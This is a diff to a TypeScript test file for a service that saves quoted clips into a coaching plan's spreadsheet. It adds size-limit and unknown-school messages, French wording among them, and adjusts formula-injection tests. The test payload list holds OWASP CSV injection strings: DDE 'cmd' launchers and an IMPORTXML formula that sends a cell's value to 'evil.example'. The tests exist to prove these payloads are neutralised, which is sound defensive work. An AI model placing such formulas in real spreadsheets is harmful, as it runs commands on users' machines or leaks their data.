@@ -118,10 +118,19 @@ describe('clip', () => {
     { name: 'id too short', item: clipItem({ id: 'x' }), code: 'invalid-item', message: /id/ },
     { name: 'missing capturedAt', item: clipItem({ capturedAt: undefined }), code: 'invalid-item', message: /capturedAt/ },
     { name: 'not an object', item: 'a string' as unknown as Record<string, unknown>, code: 'invalid-item', message: /malformed/ },
-    { name: 'oversize quote', item: clipItem({ quote: 'x'.repeat(20_001) }), code: 'too-large', message: /shorten the passage to under 20000 characters/ },
-    { name: 'oversize note', item: clipItem({ note: 'y'.repeat(25_000) }), code: 'too-large', message: /25000 characters/ },
+    { name: 'oversize quote', item: clipItem({ quote: 'x'.repeat(20_001) }), code: 'too-large', message: /^The passage of this clip is 20,001 characters long; a passage holds 20,000 characters at most\. Shorten the passage\.$/ },
+    { name: 'oversize note', item: clipItem({ note: 'y'.repeat(25_000) }), code: 'too-large', message: /^The note of this clip is 25,000 characters long; a note holds 20,000 characters at most\. Shorten the note\.$/ },
     { name: 'deleted key result', item: clipItem({ keyResultId: 'kr-deleted' }), code: 'unknown-key-result', message: /no longer in the plan/ },
   ];
+  it('accepts a passage and a note of exactly 20,000 characters, and words the limit in French', () => {
+    const host = fakeHost();
+    const atLimit = clipItem({ quote: 'x'.repeat(20_000), note: 'y'.repeat(20_000) });
+    expect(clipReply(send(host, clipBody([atLimit]))).accepted).toEqual([atLimit.id]);
+    const french = fakeHost('fr');
+    const [refused] = clipReply(send(french, clipBody([clipItem({ note: 'y'.repeat(20_001) })]))).rejected;
+    expect(refused.message).toBe('La note de cet extrait compte 20\u202f001 caractères\u202f; une note en contient au plus 20\u202f000. Raccourcissez la note.');
+  });
+
   it.each(itemCases)('rejects one bad item ($name → $code) and still accepts the others', ({ item, code, message }) => {
     const host = fakeHost();
     const good = clipItem();
@@ -155,6 +164,27 @@ describe('clip', () => {
   });
 });
 
+describe('a clip naming a school the Schools tab does not have', () => {
+  it('is stored, and the coach is warned in the plan\'s language; known (any case) and empty schools are not', () => {
+    const host = fakeHost();
+    const unknown = clipItem({ school: ' Mapel Elementary ' });
+    const known = clipItem({ school: 'maple elementary' });
+    const none = clipItem({ school: '' });
+    const reply = clipReply(send(host, clipBody([unknown, known, none])));
+    expect(reply.accepted).toEqual([unknown.id, known.id, none.id]);
+    expect(reply.warnings).toEqual([{
+      id: unknown.id,
+      code: 'unknown-school',
+      message: 'Saved, but the school "Mapel Elementary" is not in the plan’s Schools tab, so the Dashboard counts this clip for no school. Choose a school from the list next time, or ask your coordinator to add it.',
+    }]);
+    expect(host.rows[0][column('school')]).toBe(' Mapel Elementary ');
+    // A retry of the same clip is a duplicate: nothing new is written, so nothing new to warn about.
+    expect(clipReply(send(host, clipBody([unknown]))).warnings).toEqual([]);
+    const french = clipReply(send(fakeHost('fr'), clipBody([clipItem({ school: 'École Inconnue' })])));
+    expect(french.warnings[0].message).toBe('Enregistré, mais l’école «\u00a0École Inconnue\u00a0» n’est pas dans l’onglet Écoles du plan\u00a0: le tableau de bord ne compte cet extrait pour aucune école. Choisissez une école dans la liste la prochaine fois, ou demandez à votre coordonnateur ou coordonnatrice de l’ajouter.');
+  });
+});
+
 describe('untrusted text never becomes a formula', () => {
   // OWASP CSV injection payloads, and every character that starts a formula.
   const payloads = [
@@ -167,7 +197,6 @@ describe('untrusted text never becomes a formula', () => {
     '+cmd|\' /C notepad\'!\'A1\'',
     '=cmd|\' /C calc\'!A0',
     '\t=1+1',
-    '\r=1+1',
     '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
   ];
   const textFields = ['quote', 'note', 'sourceTitle', 'heading', 'school', 'practice'] as const;
@@ -181,6 +210,13 @@ describe('untrusted text never becomes a formula', () => {
       expect(cell).toBe(`'${payload}`);
       expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     }
+  });
+
+  it('stores a leading carriage return as a line break, which no spreadsheet reads as a formula', () => {
+    const host = fakeHost();
+    clipReply(send(host, clipBody([clipItem({ quote: '\r=1+1', note: '\r\n+1' })])));
+    expect(host.rows[0][column('quote')]).toBe('\n=1+1');
+    expect(host.rows[0][column('note')]).toBe('\n+1');
   });
 });
 
